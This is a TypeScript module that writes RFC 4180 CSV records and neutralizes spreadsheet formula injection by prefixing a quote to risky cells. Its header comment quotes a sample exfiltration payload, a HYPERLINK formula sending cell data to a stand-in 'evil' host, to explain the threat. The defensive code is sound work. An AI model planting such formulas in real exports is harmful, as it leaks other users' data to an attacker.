/**
 * CSV for people who open it in a spreadsheet: RFC 4180 records, plus the OWASP "CSV Injection"
 * defence, because the cells carry text any client chose (a username tried at login, a user
 * agent).
 *
 * Threat: a cell starting with `=`, `+`, `-` or `@` is read as a formula by Excel, LibreOffice
 * and Google Sheets; `=HYPERLINK("http://evil/?"&A1, "Click")` leaks other cells, DDE formulas
 * can run programs. A leading TAB or CR can hide such a start from a naive check. Any such cell
 * gets a leading `'`, which the spreadsheet reads as "text" (shown, the formula inert), and is
 * then quoted as RFC 4180 says. Numbers are written the same way, so a negative one would read
 * as text: the exports here hold positive ids only.
 */

export type CsvValue = string | number | null | undefined

/** OWASP's list of characters a cell must not begin with. */
const FORMULA_START = /^[=+\-@\t\r]/
/** RFC 4180 section 2.6: fields holding these are enclosed in double quotes. */
const NEEDS_QUOTES = /[",\r\n]/

/** `text` with a leading `'` if a spreadsheet would run it as a formula. */
export function neutralizeFormula(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text
}

/** One field: null and undefined are empty; formulas neutralized; quoted only when needed. */
export function csvField(value: CsvValue): string {
  if (value === null || value === undefined) return ''
  const text = neutralizeFormula(String(value))
  // RFC 4180 section 2.7: a quote inside a quoted field is written twice.
  return NEEDS_QUOTES.test(text) ? `"${text.replaceAll('"', '""')}"` : text
}

/** One record, CRLF-terminated (RFC 4180 section 2.1). */
export function csvRecord(values: readonly CsvValue[]): string {
  return `${values.map(csvField).join(',')}\r\n`
}
